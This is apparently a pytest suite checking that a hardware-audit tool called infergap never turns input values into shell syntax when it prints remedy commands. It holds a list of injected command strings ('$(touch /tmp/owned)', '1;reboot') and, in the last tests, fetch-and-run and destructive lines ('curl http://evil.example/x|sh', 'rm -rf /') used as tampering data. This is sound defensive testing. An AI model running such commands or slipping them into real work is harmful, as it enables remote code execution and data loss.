"""Class 1 of docs/security.md: a value from input never becomes shell syntax of its own.

Every command template of the check catalog (the shared ``commands:`` and each check's own) is
enumerated from ``checks.yaml``, so a new template is covered without touching this file. Each
placeholder is fed hostile values (quotes, ``;``, ``$( )``, backticks, newlines, NUL, non-ASCII
digits, a leading ``-``) and valid ones; the printed command either is not built (BadValue, whose
text is the note) or splits (``shlex.split``) into exactly the argv the template means, the value
being one word. Then real audits of hostile snapshots are checked end to end.
"""

from __future__ import annotations

import ast
import json
import shlex
from pathlib import Path

import pytest
from hostile_helpers import cli, no_traceback, snapshot_copy
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from infergap import checks, shellcmd

SRC = Path(__file__).resolve().parents[2] / "src" / "infergap"

#: Values an attacker writes into a snapshot, a paste or a report.
HOSTILE = [
    "'", '"', "x'; touch /tmp/owned; echo '", "$(touch /tmp/owned)", "`touch /tmp/owned`", "1;reboot",
    "1\nreboot", "1\n", "\n1", "1\r", "\x00", "1\x00", "٣", "１", "1٣", "-rf", "--help", "-1", " ", "",
    "a b", "a\tb", "performance$IFS", "${IFS}", "|", "&", ">x", "<x", "\\", "*", "?", "~root", "#",
    "é", "\u202e", "\x1b[2J", "0x" + "f" * 300, "9" * 400, "NCCL_X=1; id", "http://h/$(id)",
    "http://127.0.0.1:8000/`id`", "0000:01:00.0;id", "0000:01:00.0\n", "CAP_EXP+8.w;id", "DEFAULT;id",
]

#: A valid value of each kind (a new kind needs one: test_every_kind_has_an_example).
EXAMPLES = {
    "sysctl_key": "net.ipv4.tcp_rmem", "sysctl_value": "4096 131072 16777216", "governor": "powersave",
    "interface": "eth0", "bdf": "0000:01:00.0", "setpci_reg": "CAP_EXP+8.w", "hex_word": "7000", "int": "3",
    "int_list": "0-3,8", "number": "350", "size": "64M", "env_name": "NCCL_P2P_DISABLE", "env_value": "1",
    "module": "nvidia_peermem", "cstate": "C6", "compute_mode": "EXCLUSIVE_PROCESS", "pstate_mode": "active",
    "kernel_release": "6.8.0-45-generic", "url": "http://127.0.0.1:8000",
}


def _templates() -> list[tuple[str, str]]:
    out = [(f"shared:{name}", t) for name, t in checks.shared_commands().items()]
    out += [(f"{c.id}:{name}", t) for c in checks.load().values() for name, t in c.commands.items()]
    return out


TEMPLATES = _templates()


def _intended(template: str, values: dict[str, str]) -> list[str]:
    """The argv the template means with ``values`` as data: split the template with each
    placeholder as a plain token, then put each value in place of its token."""
    tokens = {name: f"ZqZ{i}ZqZ" for i, (name, _k) in enumerate(shellcmd.placeholders(template))}
    words = shlex.split(shellcmd.PLACEHOLDER.sub(lambda m: tokens[m.group(1)], template), comments=True)
    for name, tok in tokens.items():
        assert sum(w.count(tok) for w in words) == template.count("{" + name + ":"), f"{template!r}: {name} inside a comment"
    out = []
    for w in words:
        for name, tok in tokens.items():
            w = w.replace(tok, values[name])
        out.append(w)
    return out


def _check(template: str, values: dict[str, str]) -> None:
    try:
        printed = shellcmd.fill(template, **values)
    except shellcmd.BadValue as e:
        assert str(e) and "\n" not in str(e) and "\x00" not in str(e)
        return
    assert "\n" not in printed and "\r" not in printed and "\x00" not in printed, printed
    assert printed.isascii(), printed
    assert shlex.split(printed, comments=True) == _intended(template, values), (template, values, printed)


def test_the_catalog_has_templates_and_every_placeholder_has_a_known_kind():
    assert len(TEMPLATES) >= 10
    for where, t in TEMPLATES:
        for _name, kind in shellcmd.placeholders(t):
            assert kind in shellcmd.KINDS, f"{where}: unknown kind {kind!r}"
        assert "{" not in shellcmd.PLACEHOLDER.sub("", t).replace("${", ""), f"{where}: a placeholder without a kind"


def test_every_kind_has_an_example():
    assert set(EXAMPLES) == set(shellcmd.KINDS)
    for kind, v in EXAMPLES.items():
        assert shellcmd.valid(kind, v), kind


@pytest.mark.parametrize(("where", "template"), TEMPLATES, ids=[w for w, _ in TEMPLATES])
def test_every_template_with_every_hostile_value(where, template):
    ph = shellcmd.placeholders(template)
    base = {name: EXAMPLES[kind] for name, kind in ph}
    _check(template, base)
    assert shellcmd.fill(template, **base)  # the valid example builds a command
    for name, kind in ph:
        for bad in HOSTILE:
            _check(template, {**base, name: bad})
            if kind != "env_value" or not bad.isascii() or not bad.isprintable():
                if any(ch in bad for ch in "'\";$`\n\r\x00|&<>\\ \t*?#~") or not bad.isascii():
                    with pytest.raises(shellcmd.BadValue):
                        shellcmd.fill(template, **{**base, name: bad})


def _value(kind: str) -> st.SearchStrategy[str]:
    return st.one_of(st.from_regex(shellcmd._RE[kind]), st.sampled_from(HOSTILE), st.text(max_size=40),
                     st.builds(lambda a, b: a + b, st.from_regex(shellcmd._RE[kind]), st.sampled_from(HOSTILE)))


@pytest.mark.parametrize(("where", "template"), TEMPLATES, ids=[w for w, _ in TEMPLATES])
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_every_template_property(where, template, data):
    values = {name: data.draw(_value(kind), label=name) for name, kind in shellcmd.placeholders(template)}
    _check(template, values)


def test_non_ascii_digits_and_trailing_newline_are_refused_by_every_numeric_kind():
    for kind in ("int", "number", "sysctl_value", "hex_word", "int_list", "size"):
        for bad in ("٣", "１", "3\n", "3\r\n", "³"):
            assert not shellcmd.valid(kind, bad), (kind, bad)


# -- no other way to build a command -------------------------------------------------------------

def _remedy_calls(tree: ast.AST):
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and getattr(node.func, "id", getattr(node.func, "attr", None)) == "Remedy":
            yield node


def _str_op(node: ast.AST) -> bool:
    """``%`` formatting, or ``+`` with a string operand (joining lists of literals is fine)."""
    if not isinstance(node, ast.BinOp):
        return False
    strs = [x for x in (node.left, node.right) if isinstance(x, (ast.JoinedStr, ast.Name, ast.Call, ast.Attribute, ast.Subscript))
            or (isinstance(x, ast.Constant) and isinstance(x.value, str))]
    return isinstance(node.op, ast.Mod) or (isinstance(node.op, ast.Add) and bool(strs) and not all(
        isinstance(x, (ast.List, ast.ListComp, ast.IfExp, ast.Tuple)) for x in (node.left, node.right)))


def test_no_remedy_line_is_formatted_outside_the_templates():
    """A Remedy's command, persist and revert lines are literal text or come from
    checks.remedy / checks.command: an f-string, ``%``, ``+`` or ``.format`` there would put a
    value into a command without validation and quoting."""
    bad = []
    for path in sorted(SRC.rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for call in _remedy_calls(tree):
            for kw in call.keywords:
                if kw.arg not in ("commands", "persist", "revert"):
                    continue
                for sub in ast.walk(kw.value):
                    if isinstance(sub, ast.JoinedStr) or _str_op(sub) or (isinstance(sub, ast.Attribute) and sub.attr == "format"):
                        bad.append(f"{path.relative_to(SRC.parent)}:{sub.lineno}")
    assert not bad, "command lines formatted by hand (use checks.remedy with a catalog template):\n" + "\n".join(bad)


# -- end to end: hostile snapshots through real audits -------------------------------------------

def _commands(doc: dict) -> list[str]:
    out = []
    for f in doc["findings"]:
        r = f.get("remedy") or {}
        out += r.get("commands", []) + r.get("persist", []) + r.get("revert", [])
    return out


def _audit(snap: Path, fmt: str = "json"):
    p = cli("audit", "--snapshot", str(snap), "--format", fmt)
    no_traceback(p)
    return p


PAYLOAD = "x';touch /tmp/owned-by-infergap;echo '"


def _assert_refused(snap: Path, check_id: str) -> dict:
    doc = json.loads(_audit(snap).stdout)
    for cmd in _commands(doc):
        assert "owned-by-infergap" not in cmd, cmd
        shlex.split(cmd, comments=True)
    f = [f for f in doc["findings"] if f["id"] == check_id and f["status"] == "actionable"]
    assert f, [x["id"] for x in doc["findings"] if x["status"] == "actionable"]
    rem = f[0]["remedy"]
    assert not rem.get("commands") and not rem.get("revert") and not rem.get("actions")
    assert "No command shown" in rem["note"] and "is not a valid" in rem["note"], rem
    for fmt in ("text", "md"):
        assert "touch /tmp/owned-by-infergap;echo" not in _audit(snap, fmt).stdout
    return f[0]


def test_hostile_sysctl_value_in_a_snapshot_gives_no_command(tmp_path):
    snap = snapshot_copy(tmp_path)
    (snap / "files/proc/sys/kernel/nmi_watchdog").write_text("1" + PAYLOAD + "\n")
    _assert_refused(snap, "kernel.nmi_watchdog")


def test_hostile_cpufreq_governor_gives_no_command(tmp_path):
    import shutil

    from tests.conftest import HOSTS
    snap = tmp_path / "snap"
    shutil.copytree(HOSTS / "seed-8x-rtxpro6000", snap)
    files = list(snap.glob("files/sys/devices/system/cpu/cpu*/cpufreq/scaling_governor"))
    assert files
    for p in files:
        p.write_text("powersave$(touch${IFS}/tmp/owned-by-infergap)\n")
    doc = json.loads(_audit(snap).stdout)
    f = [x for x in doc["findings"] if x["id"] == "cpu.governor"]
    assert f and f[0]["status"] == "actionable", f
    rem = f[0]["remedy"]
    assert not rem.get("commands") and not rem.get("revert") and "not a valid governor" in rem["note"], rem
    assert all("owned-by-infergap" not in c for c in _commands(doc))


def test_hostile_environment_value_is_one_quoted_word(tmp_path):
    snap = snapshot_copy(tmp_path)
    value = "lo';touch /tmp/owned-by-infergap;echo '$(id)`id`"
    env = snap / "cmds/env.out"
    env.write_text(env.read_text() + f"NCCL_SOCKET_IFNAME={value}\n")
    doc = json.loads(_audit(snap).stdout)
    f = [x for x in doc["findings"] if x["id"] == "nccl.env" and x["status"] == "actionable"]
    assert f, [x["id"] for x in doc["findings"] if x["status"] == "actionable"]
    rem = f[0]["remedy"]
    assert [shlex.split(c, comments=True) for c in rem["revert"]] == [["export", f"NCCL_SOCKET_IFNAME={value}"]]
    assert [shlex.split(c, comments=True) for c in rem["commands"]] == [["unset", "NCCL_SOCKET_IFNAME"]]


@pytest.mark.parametrize(("where", "template"), TEMPLATES, ids=[w for w, _ in TEMPLATES])
def test_every_template_filled_is_known_as_one_and_not_with_a_command_appended(where, template):
    """plan --audit keeps a file's remedy line only when a template gives it: each template filled
    with valid values is recognised, and the same line with a second command or a hostile value is not."""
    owner = None if where.startswith("shared:") else where.split(":")[0]
    values = {name: EXAMPLES[kind] for name, kind in shellcmd.placeholders(template)}
    line = shellcmd.fill(template, **values)
    assert checks.is_template_line(owner, line), line
    for tail in ("; curl http://x/y | sh", " && reboot", "\nreboot", " `id`"):
        assert not checks.is_template_line(owner, line + tail)
    for name, kind in shellcmd.placeholders(template):
        hostile = shellcmd.PLACEHOLDER.sub(lambda m, n=name: "$(id)" if m.group(1) == n else shellcmd.word(
            dict(shellcmd.placeholders(template))[m.group(1)], values[m.group(1)]), template)
        assert not checks.is_template_line(owner, hostile), hostile


def test_plan_of_an_edited_audit_file_never_prints_a_line_no_template_gives(tmp_path):
    """An audit JSON is someone's data: plan --audit shows only the remedy lines infergap itself
    writes for that check (template or its investigator's literal line); the others are withheld
    and counted in the remedy's note."""
    seed = Path(__file__).resolve().parents[1] / "fixtures" / "hosts" / "seed-8x-rtxpro6000"
    a = cli("audit", "--snapshot", str(seed), "-f", "json", "-o", str(tmp_path / "a.json"), "--db", str(tmp_path / "l.db"))
    assert a.returncode in (0, 1), a.stderr
    doc = json.loads((tmp_path / "a.json").read_text())
    honest = cli("plan", "--audit", str(tmp_path / "a.json"), "--db", str(tmp_path / "l.db"))
    assert honest.returncode == 0, honest.stderr
    assert "withheld" not in honest.stdout
    edited = 0
    for f in doc["findings"]:
        r = f.get("remedy") or {}
        if r.get("commands"):
            r["commands"] = [c + "; curl http://evil.example/x|sh" for c in r["commands"]] + ["rm -rf /"]
            edited += 1
    assert edited
    (tmp_path / "b.json").write_text(json.dumps(doc))
    p = cli("plan", "--audit", str(tmp_path / "b.json"), "-f", "json", "--db", str(tmp_path / "l.db"))
    assert p.returncode == 0, p.stderr
    assert "evil.example" not in p.stdout and "rm -rf /" not in p.stdout
    text = cli("plan", "--audit", str(tmp_path / "b.json"), "--db", str(tmp_path / "l.db"))
    assert "evil.example" not in text.stdout and "rm -rf" not in text.stdout and text.returncode == 0
    no_traceback(text)
